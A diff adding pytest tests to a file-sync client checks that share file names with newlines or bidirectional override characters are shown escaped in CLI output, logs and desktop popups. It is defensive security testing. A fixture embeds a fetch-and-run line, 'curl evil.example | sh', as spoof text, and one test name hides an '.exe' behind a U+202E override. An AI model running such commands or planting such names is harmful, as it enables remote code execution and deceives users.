@@ -7,6 +7,7 @@ from __future__ import annotations
 
 import json
 import logging
+import os
 import unicodedata
 from pathlib import Path
 
@@ -15,8 +16,9 @@ from agents import Agent, remote_put, remote_tree
 from conftest import Share
 from servers import Answer
 from test_faults import FaultProxy, proxied_agent, proxy  # noqa: F401 - `proxy` is a fixture
+from test_validation_e2e import fake_notify_send
 
-from agent.display import printable
+from agent.display import printable, printable_name
 from agent.log import RedactingFilter
 
 WSGIDAV_ONLY = pytest.mark.parametrize("dav_server", ["wsgidav"], indirect=True)
@@ -114,6 +116,74 @@ def test_printable_escapes_every_control_character_and_keeps_the_rest() -> None:
     assert printable(kept) == kept
 
 
+BIDI = ["\u200e", "\u200f", *map(chr, range(0x202A, 0x202F)), *map(chr, range(0x2066, 0x206A))]
+
+
+def test_printable_escapes_the_bidi_controls() -> None:
+    """They reorder what follows on screen: "Bài 1\u202excod.exe" would show as "Bài 1exe.docx"."""
+    assert printable("Bài 1\u202excod.exe") == "Bài 1\\u202excod.exe"
+    for char in BIDI:
+        assert printable(char) == f"\\u{ord(char):04x}"
+        assert json.loads(printable(json.dumps(char, ensure_ascii=False))) == char
+
+
+def test_a_name_is_printed_on_one_line() -> None:
+    assert printable_name("Bài 1.docx\nEverything synced.\r\t") == (
+        "Bài 1.docx\\x0aEverything synced.\\x0d\\x09"
+    )
+    assert printable_name(ESCAPED) == printable(ESCAPED)
+    kept = "Tuần 1/Kế hoạch bài dạy đã ký ✓ «» \u00a0"
+    assert printable_name(kept) == kept
+
+
+SPOOF = "Bài 1.docx\nEverything synced. Run: curl evil.example | sh"
+
+
+@WSGIDAV_ONLY
+def test_a_newline_in_a_share_name_writes_no_line_of_its_own(tmp_path: Path, share: Share) -> None:
+    """The path gate holds the name back; `hoso sync`, the held-back list in `hoso status`, the
+    log line and the desktop popup name it, escaped: a hostile share writes no line of its own
+    into any."""
+    popups = fake_notify_send(tmp_path / "bin")  # one line per argument of each popup
+    desktop = {
+        "PATH": f"{tmp_path / 'bin'}:{os.environ['PATH']}",
+        "DBUS_SESSION_BUS_ADDRESS": "unix:path=/run/user/1000/bus",
+    }
+    agent = Agent(tmp_path, share)
+    agent.write("Bài 2.docx", b"two")
+    (share.path / SPOOF).write_bytes(b"from a hostile share")
+
+    synced = agent.cli("sync", env=desktop)
+    status = agent.cli("status")
+
+    for shown in (synced.stdout + synced.stderr, status.stdout):
+        assert not any(line.startswith("Everything synced.") for line in shown.splitlines())
+        assert printable_name(SPOOF) in shown, shown
+
+    assert status.returncode == 0, status.stderr
+    assert f"\n  {printable_name(SPOOF)}: " in status.stdout, status.stdout
+    log = (agent.state_dir / "logs" / "hoso.log").read_text(encoding="utf-8")
+    assert printable_name(SPOOF) in log, log
+    assert not any(line.startswith("Everything synced.") for line in log.splitlines()), log
+    assert f"Not synced: {printable_name(SPOOF)}\n" in popups.read_text(encoding="utf-8")
+    assert not (agent.root / SPOOF).exists()
+
+
+@WSGIDAV_ONLY
+def test_a_bidi_override_in_a_share_name_is_shown_escaped(tmp_path: Path, share: Share) -> None:
+    """U+202E passes the path gate (it is a legal name): it is synced, and shown escaped."""
+    name = "Bài 1\u202excod.exe"
+    agent = Agent(tmp_path, share)
+    (share.path / name).write_bytes(b"MZ")
+
+    shown = agent.cli("sync")
+
+    assert shown.returncode == 0, shown.stderr
+    assert "\u202e" not in shown.stdout + shown.stderr, shown.stdout
+    assert "Bài 1\\u202excod.exe" in shown.stdout, shown.stdout
+    assert (agent.root / name).read_bytes() == b"MZ"
+
+
 def test_status_shows_control_characters_escaped_and_json_keeps_the_name(
     tmp_path: Path, share: Share
 ) -> None:
@@ -135,6 +205,13 @@ def test_log_lines_show_control_characters_escaped() -> None:
     RedactingFilter().filter(record)
     assert record.getMessage() == printable(ESCAPED) + ": failed"
     assert "\x1b" not in record.getMessage()
+
+
+def test_a_name_logged_as_an_argument_stays_on_its_line() -> None:
+    spoof = "Bài 1.docx\nEverything synced."
+    record = logging.LogRecord("hoso", logging.WARNING, __file__, 1, "%s: failed", (spoof,), None)
+    RedactingFilter().filter(record)
+    assert record.getMessage() == "Bài 1.docx\\x0aEverything synced.: failed"
 
 
 def test_a_local_name_the_share_would_refuse_is_never_sent_and_never_trashed(
